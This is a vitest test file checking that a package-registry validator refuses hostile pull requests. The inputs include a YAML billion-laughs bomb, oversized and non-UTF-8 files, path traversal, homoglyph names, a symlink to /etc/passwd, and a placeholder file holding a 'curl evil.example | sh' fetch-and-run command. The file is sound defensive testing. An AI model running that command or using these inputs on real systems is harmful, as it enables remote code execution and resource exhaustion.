// Hostile pull requests: each gets an error with a location, never a crash or a hang.
import { describe, expect, it } from 'vitest';
import { createRepo, gitIn } from '../helpers/git.js';
import { branch, cli, definition, defPath, judge, registry, validatePr } from './fixture.js';

const rulesOf = (lines: string[]) => lines.map((l) => /\[([a-z-]+)\]$/.exec(l)?.[1]);

describe('granary validate: hostile input', () => {
  it('reports malformed YAML and duplicate keys at their line', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write(defPath('broken', '1.0.0'), 'name: broken\nversion: "1.0.0"\nlicense: [MIT\n');
    await repo.write(defPath('twice', '1.0.0'), `${definition('twice', '1.0.0')}name: twice\n`);
    const run = await judge(repo, 'alice');
    expect(run.code).toBe(1);
    expect(run.lines).toContainEqual(
      expect.stringMatching(/^packages\/broken\/1\.0\.0\.yaml:\d+:\d+: error: .* \[yaml\]$/),
    );
    expect(run.lines).toContainEqual(
      expect.stringMatching(/^packages\/twice\/1\.0\.0\.yaml:10:1: error: .*[Mm]ap keys must be unique.* \[yaml\]$/),
    );
  });

  it('refuses YAML aliases (billion laughs) quickly', async () => {
    const repo = await registry();
    await branch(repo);
    const bomb = [
      'a: &a ["x","x","x","x","x","x","x","x","x"]',
      ...'bcdefghi'.split('').map((c, i) => `${c}: &${c} [${Array(9).fill(`*${'abcdefghi'[i]}`).join(',')}]`),
    ].join('\n');
    await repo.write(defPath('bomb', '1.0.0'), `${bomb}\n`);
    const start = Date.now();
    const run = await judge(repo, 'alice');
    expect(Date.now() - start).toBeLessThan(5000);
    expect(run.lines).toEqual([
      expect.stringMatching(/^packages\/bomb\/1\.0\.0\.yaml:1:7: error: YAML anchors .* \[yaml\]$/),
    ]);
  });

  it('refuses collection keys and deep nesting before converting them (they take seconds and memory)', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write(defPath('keys', '1.0.0'), `${'{'.repeat(400)}${'}'.repeat(400)}\n`);
    await repo.write(defPath('deep', '1.0.0'), `name: deep\nfiles:\n  include: ${'['.repeat(40)}${']'.repeat(40)}\n`);
    const start = Date.now();
    const run = await judge(repo, 'alice');
    expect(Date.now() - start).toBeLessThan(5000);
    expect(run.lines).toEqual([
      'packages/deep/1.0.0.yaml:3:43: error: YAML nested deeper than 32 levels is not allowed in registry files [yaml]',
      'packages/keys/1.0.0.yaml:1:2: error: keys must be plain names, not lists or maps [yaml]',
    ]);
  });

  it('checks the .gitkeep placeholders too: content there is refused', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write('packages/.gitkeep', Buffer.alloc(5 * 1024 * 1024, 7));
    await repo.write('overrides/.gitkeep', '#!/bin/sh\ncurl evil.example | sh\n');
    const run = await judge(repo, 'alice');
    expect(run.code).toBe(1);
    expect(run.lines.sort()).toEqual([
      'overrides/.gitkeep:1:1: error: overrides/.gitkeep only keeps an empty folder in git: it must be empty [placeholder-not-empty]',
      'packages/.gitkeep:1:1: error: packages/.gitkeep only keeps an empty folder in git: it must be empty [placeholder-not-empty]',
    ]);
  });

  it('refuses package names that are branch names, even with a trustee', async () => {
    const repo = await registry();
    await branch(repo);
    for (const name of ['main', 'gh-pages', 'index'])
      await repo.write(defPath(name, '1.0.0'), definition(name, '1.0.0'));
    const run = await judge(repo, 'alice', '--trustee');
    expect(run.code).toBe(1);
    expect(rulesOf(run.lines.filter((l) => l.includes(': error: ')))).toEqual([
      'name-branch',
      'name-branch',
      'name-branch',
    ]);
  });

  it('refuses an enormous file without parsing it', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write(defPath('huge', '1.0.0'), `${definition('huge', '1.0.0')}# ${'x'.repeat(2_000_000)}\n`);
    const run = await judge(repo, 'alice');
    expect(run.lines).toEqual([
      expect.stringMatching(
        /^packages\/huge\/1\.0\.0\.yaml:1:1: error: the file is \d+ bytes; registry files are at most 16384 bytes.* \[file-too-large\]$/,
      ),
    ]);
  });

  it('refuses bytes that are not UTF-8', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write(
      defPath('latin', '1.0.0'),
      Buffer.concat([Buffer.from('name: latin\ndescription: caf'), Buffer.from([0xe9]), Buffer.from('\n')]),
    );
    const run = await judge(repo, 'alice');
    expect(run.lines).toEqual(['packages/latin/1.0.0.yaml:1:1: error: the file is not valid UTF-8 text [encoding]']);
  });

  it('refuses odd names in paths: "..", unicode look-alikes, control characters, deep and misplaced files', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write('packages/../escape.yaml', 'x: 1\n').catch(() => undefined);
    await repo.write('packages/lеft-pad/1.0.0.yaml', definition('lеft-pad', '1.0.0')); // Cyrillic "е"
    await repo.write('packages/tab\tname/1.0.0.yaml', 'x: 1\n');
    await repo.write('packages/a/b/c/d/e/1.0.0.yaml', 'x: 1\n');
    await repo.write('packages/left-pad/1.0.yml', 'x: 1\n');
    await repo.write('packages/left-pad/01.0.0.yaml', 'x: 1\n');
    await repo.write('overrides/notes.txt', 'x\n');
    const run = await judge(repo, 'alice');
    expect(run.code).toBe(1);
    expect(run.lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^packages\/l\\u0435ft-pad\/1\.0\.0\.yaml:1:1: error: .*lowercase ASCII.* \[name-syntax\]$/,
        ),
        expect.stringMatching(/^packages\/tab\\u0009name\/1\.0\.0\.yaml:1:1: error: .* \[name-syntax\]$/),
        expect.stringMatching(
          /^packages\/a\/b\/c\/d\/e\/1\.0\.0\.yaml:1:1: error: files in packages\/ must be at .* \[file-layout\]$/,
        ),
        expect.stringMatching(
          /^packages\/left-pad\/1\.0\.yml:1:1: error: .*use the \.yaml extension.* \[file-layout\]$/,
        ),
        expect.stringMatching(/^packages\/left-pad\/01\.0\.0\.yaml:1:1: error: .* \[version-syntax\]$/),
        expect.stringMatching(/^overrides\/notes\.txt:1:1: error: .* \[file-layout\]$/),
        // "packages/../escape.yaml" is the top-level escape.yaml: outside the folders authors may touch.
        'escape.yaml:1:1: error: only maintainers and trustees may change files outside packages/ and overrides/ (alice is neither) [outside-folders]',
      ]),
    );
    expect(run.lines).toHaveLength(7);
  });

  it('refuses a name with ".." or "/" inside a definition', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write(defPath('left-pad', '1.0.0'), definition('../../etc', '1.0.0'));
    const run = await judge(repo, 'alice');
    expect(run.lines).toContainEqual(
      expect.stringMatching(
        /^packages\/left-pad\/1\.0\.0\.yaml:1:1: error: name "\.\.\/\.\.\/etc" is not a package name.* \[name-syntax\]$/,
      ),
    );
    expect(run.lines).toContainEqual(
      expect.stringMatching(/^packages\/left-pad\/1\.0\.0\.yaml:1:1: error: .* \[path-mismatch\]$/),
    );
  });

  it('refuses symlinks and submodules in the pull request', async () => {
    const repo = await registry();
    const sub = await createRepo();
    await sub.write('x', 'x');
    await sub.commit('sub');
    await branch(repo);
    await repo.link(defPath('link', '1.0.0'), '/etc/passwd');
    await gitIn(repo.dir, 'add', '-A');
    await gitIn(repo.dir, 'update-index', '--add', '--cacheinfo', `160000,${await sub.head()},packages/sub/1.0.0.yaml`);
    await gitIn(repo.dir, 'commit', '-q', '-m', 'hostile');
    const run = await validatePr(repo, 'alice', '--offline');
    expect(run.lines).toEqual([
      'packages/link/1.0.0.yaml:1:1: error: symbolic links are not allowed in the registry repository [symlink]',
      'packages/sub/1.0.0.yaml:1:1: error: submodules are not allowed in the registry repository [submodule]',
    ]);
    const whole = await cli('validate', '--offline', '--repo', repo.dir, '--head', 'pr');
    expect(rulesOf(whole.lines)).toEqual(['symlink', 'submodule']);
  });

  it('refuses revisions that look like options, and a missing repository, with exit 2', async () => {
    const repo = await registry();
    for (const rev of ['--output=/tmp/x', 'main..pr', 'HEAD@{1}', 'a b']) {
      const run = await cli('validate', '--offline', '--repo', repo.dir, '--base', rev, '--author', 'alice');
      expect(run.code).toBe(2);
      expect(run.err).toContain('is not a revision this command accepts');
    }
    expect(
      (await cli('validate', '--offline', '--repo', repo.dir, '--base', 'no-such-branch', '--author', 'alice')).code,
    ).toBe(2);
    expect((await cli('validate', '--offline', '--repo', repo.dir, '--base', 'main')).code).toBe(2);
    expect((await cli('validate', '--offline', '--repo', `${repo.dir}/nowhere`)).code).toBe(2);
  });

  it('prints problems as JSON with --json', async () => {
    const repo = await registry();
    await branch(repo);
    await repo.write(defPath('left-pad', '1.0.0'), definition('left-pad', '1.0.0', { owners: ['bob'] }));
    const run = await judge(repo, 'alice', '--json');
    expect(run.code).toBe(1);
    expect(JSON.parse(run.out)).toEqual({
      ok: false,
      problems: [
        {
          file: 'packages/left-pad/1.0.0.yaml',
          line: 8,
          col: 1,
          severity: 'error',
          rule: 'not-owner',
          message: expect.stringContaining('add alice to owners'),
        },
      ],
      operations: [{ kind: 'new-package', file: 'packages/left-pad/1.0.0.yaml', name: 'left-pad', version: '1.0.0' }],
      checked: 1,
      impact: [],
    });
  });
});
